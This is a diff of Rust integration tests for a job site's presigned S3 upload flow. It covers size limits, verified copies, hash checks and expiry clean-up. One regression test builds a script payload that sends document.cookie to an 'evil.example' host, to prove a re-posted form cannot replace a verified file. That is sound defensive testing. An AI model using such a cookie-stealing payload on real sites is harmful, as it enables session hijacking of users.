@@ -69,6 +69,24 @@ impl S3 {
     fn has(&self, key: &str) -> bool {
         self.root.join(BUCKET).join(key).exists()
     }
+
+    /// The verified copies the server keeps of an upload (`employers/{e}/files/{id}/…`).
+    fn copies(&self, employer: Uuid, id: &str) -> Vec<Vec<u8>> {
+        let dir = self
+            .root
+            .join(BUCKET)
+            .join(format!("employers/{employer}/files/{id}"));
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            return Vec::new();
+        };
+        entries
+            .filter_map(Result::ok)
+            .filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
+            // s3s-fs keeps metadata beside each object in files of its own.
+            .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
+            .map(|e| std::fs::read(e.path()).unwrap())
+            .collect()
+    }
 }
 
 impl Drop for S3 {
@@ -191,7 +209,8 @@ async fn a_pdf_goes_straight_to_the_store_is_verified_and_can_be_attached() {
         }
         assert!(conditions.contains(&json!({ name: value })), "{name}");
     }
-    assert!(conditions.contains(&json!(["content-length-range", 1, MAX])));
+    // Exactly the declared size: the form cannot carry another file of another length.
+    assert!(conditions.contains(&json!(["content-length-range", PDF.len(), PDF.len()])));
     assert_eq!(
         presigned["fields"]["x-amz-server-side-encryption"],
         "AES256"
@@ -210,6 +229,10 @@ async fn a_pdf_goes_straight_to_the_store_is_verified_and_can_be_attached() {
     let upload: Value = response.json().await.unwrap();
     assert_eq!(upload["status"], "verified");
     assert!(upload["verified_at"].is_string());
+    assert_eq!(upload["sha256"], sha256_hex(PDF));
+    // Copied where no form writes; the uploaded object itself is gone.
+    assert!(!s3.has(&key_of(&presigned)));
+    assert_eq!(s3.copies(EMPLOYER, &id), vec![PDF.to_vec()]);
 
     // Employer users get a short-lived download URL that serves the file.
     let got = crate::support::get_ok(
@@ -343,15 +366,174 @@ async fn a_zip_declared_as_pdf_is_rejected_and_deleted() {
     let problem = assert_problem(applicant_with_cv(&app, EMPLOYER, &id).await, 422).await;
     assert_eq!(problem["errors"][0]["pointer"], "/cv_upload_id");
 
-    // A size other than the declared one is rejected too.
+    // A size other than the declared one never reaches the store.
     let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len() + 10)).await;
+    let r = post_form(&presigned, &[], PDF).await;
+    assert!(r.status().is_client_error(), "smaller: {}", r.status());
+    assert!(!s3.has(&key_of(&presigned)));
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// Moves every upload's form expiry into the past (as if 15 minutes went by).
+async fn expire_forms(app: &TestApp) {
+    crate::support::execute(
+        &app.db.url,
+        "UPDATE uploads SET expires_at = now() - interval '1 second'",
+    )
+    .await;
+}
+
+async fn housekeeping(app: &TestApp) {
+    jobs_server::maintenance::run_once(&app.state.db, &app.maintenance, &app.state.uploads).await;
+}
+
+/// The finding: after `:complete` said `verified`, the same form posted other bytes and the
+/// download served them. Now the form cannot carry another length, what it posts later is
+/// never what anyone downloads, and it is cleared once the form expires.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_verified_upload_stays_what_was_verified() {
+    let s3 = S3::start().await;
+    let app = app_with(&s3, &[]).await;
+    let presigned = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
+    let id = presigned["upload"]["id"].as_str().unwrap().to_string();
+    let key = key_of(&presigned);
     assert!(post_form(&presigned, &[], PDF).await.status().is_success());
-    let upload: Value = complete(&app, EMPLOYER, presigned["upload"]["id"].as_str().unwrap())
+    let verified: Value = complete(&app, EMPLOYER, &id).await.json().await.unwrap();
+    assert_eq!(verified["status"], "verified");
+
+    // A page of HTML and script: refused for its length, ...
+    let html = format!(
+        "<html><script>document.location='https://evil.example/?c='+document.cookie</script>{}</html>",
+        "x".repeat(2000)
+    );
+    let r = post_form(&presigned, &[], html.as_bytes()).await;
+    assert!(r.status().is_client_error(), "{}", r.status());
+    // ... and at the declared length the store takes it, but nobody gets it.
+    let same_size = format!("<script>alert(1)</script>{}", " ".repeat(PDF.len() - 25));
+    assert_eq!(same_size.len(), PDF.len());
+    assert!(
+        post_form(&presigned, &[], same_size.as_bytes())
+            .await
+            .status()
+            .is_success()
+    );
+    assert!(s3.has(&key));
+    // Completing again answers the settled upload and changes nothing.
+    let again: Value = complete(&app, EMPLOYER, &id).await.json().await.unwrap();
+    assert_eq!(again, verified);
+    let got = crate::support::get_ok(
+        &app,
+        &format!("/v1/uploads/{id}"),
+        Some(&app.bearer(EMPLOYER, "recruiter")),
+    )
+    .await;
+    assert_eq!(got["sha256"], sha256_hex(PDF));
+    let served = reqwest::get(got["download_url"].as_str().unwrap())
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    assert_eq!(&served[..], PDF, "the verified bytes, not the later post");
+
+    // Once the form expired, the clean-up clears what it posted; the copy stays.
+    housekeeping(&app).await;
+    assert!(s3.has(&key), "not before the form expires");
+    expire_forms(&app).await;
+    housekeeping(&app).await;
+    assert!(!s3.has(&key));
+    assert_eq!(s3.copies(EMPLOYER, &id), vec![PDF.to_vec()]);
+}
+
+/// Rejected objects go at once, and so does whatever their form posts afterwards (once it
+/// expired); pending, rejected and public uploads nothing names expire after the unclaimed
+/// TTL, while a CV an application names stays.
+#[tokio::test(flavor = "multi_thread")]
+async fn rejected_pending_and_unclaimed_uploads_expire() {
+    let s3 = S3::start().await;
+    let app = app_with(&s3, &[("JOBS_UPLOAD_UNCLAIMED_TTL", "1h")]).await;
+    let rejected = presign(&app, EMPLOYER, &pdf_request(ZIP.len())).await;
+    let rejected_id = rejected["upload"]["id"].as_str().unwrap().to_string();
+    assert!(post_form(&rejected, &[], ZIP).await.status().is_success());
+    let upload: Value = complete(&app, EMPLOYER, &rejected_id)
         .await
         .json()
         .await
         .unwrap();
     assert_eq!(upload["status"], "rejected");
+    assert!(!s3.has(&key_of(&rejected)));
+    assert!(post_form(&rejected, &[], ZIP).await.status().is_success());
+    assert!(s3.has(&key_of(&rejected)), "re-posted");
+
+    let pending = presign(&app, EMPLOYER, &pdf_request(PDF.len())).await;
+    assert!(post_form(&pending, &[], PDF).await.status().is_success());
+
+    // Two anonymous CVs for a job: one used by an application, one never.
+    let job = published_job(&app, EMPLOYER, "Chef").await;
+    let mut public = Vec::new();
+    for _ in 0..2 {
+        let response = app
+            .call(
+                Method::POST,
+                &format!("/v1/public/jobs/{job}/uploads:presign"),
+            )
+            .fresh_key()
+            .json(&pdf_request(PDF.len()))
+            .send()
+            .await;
+        let presigned: Value = response.json().await.unwrap();
+        assert!(post_form(&presigned, &[], PDF).await.status().is_success());
+        let id = presigned["upload"]["id"].as_str().unwrap().to_string();
+        let response = app
+            .call(Method::POST, &format!("/v1/uploads/{id}:complete"))
+            .send()
+            .await;
+        assert_eq!(response.status(), 200);
+        public.push(id);
+    }
+    let mut body = submission("Aisha Ibrahim", "aisha@example.com");
+    body["cv_upload_id"] = json!(public[0]);
+    crate::support::apply_ok(&app, job, &body).await;
+
+    // Within the TTL nothing of it goes, but the rejected form's late post (form expired).
+    expire_forms(&app).await;
+    housekeeping(&app).await;
+    assert!(!s3.has(&key_of(&rejected)));
+    assert!(s3.has(&key_of(&pending)));
+    assert_eq!(s3.copies(EMPLOYER, &public[1]).len(), 1);
+
+    // Past the TTL.
+    crate::support::execute(
+        &app.db.url,
+        "UPDATE uploads SET created_at = created_at - interval '2 hours', \
+                            verified_at = verified_at - interval '2 hours'",
+    )
+    .await;
+    housekeeping(&app).await;
+    let deleted = |id: &str| {
+        format!("SELECT count(*) AS n FROM uploads WHERE id = '{id}' AND status = 'deleted'")
+    };
+    assert_eq!(count(&app, &deleted(&rejected_id)).await, 1);
+    assert_eq!(
+        count(&app, &deleted(pending["upload"]["id"].as_str().unwrap())).await,
+        1
+    );
+    assert!(!s3.has(&key_of(&pending)));
+    assert_eq!(count(&app, &deleted(&public[1])).await, 1, "never used");
+    assert!(s3.copies(EMPLOYER, &public[1]).is_empty());
+    assert_eq!(
+        count(&app, &deleted(&public[0])).await,
+        0,
+        "an application names it"
+    );
+    assert_eq!(s3.copies(EMPLOYER, &public[0]).len(), 1);
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -484,14 +666,18 @@ async fn erasure_deletes_the_persons_files_and_stale_uploads_are_cleaned_up() {
         &json!({"name": "Erased Person", "email": "erase@example.com", "cv_upload_id": id}),
     )
     .await;
-    assert!(s3.has(&key));
+    assert_eq!(s3.copies(EMPLOYER, &id).len(), 1);
     let response = app
         .call(Method::DELETE, &format!("/v1/applicants/{applicant}"))
         .role(EMPLOYER, "recruiter")
         .send()
         .await;
     assert_eq!(response.status(), 204);
-    assert!(!s3.has(&key), "the CV went with the person");
+    assert!(
+        s3.copies(EMPLOYER, &id).is_empty(),
+        "the CV went with the person"
+    );
+    assert!(!s3.has(&key));
     assert_eq!(
         count(
             &app,
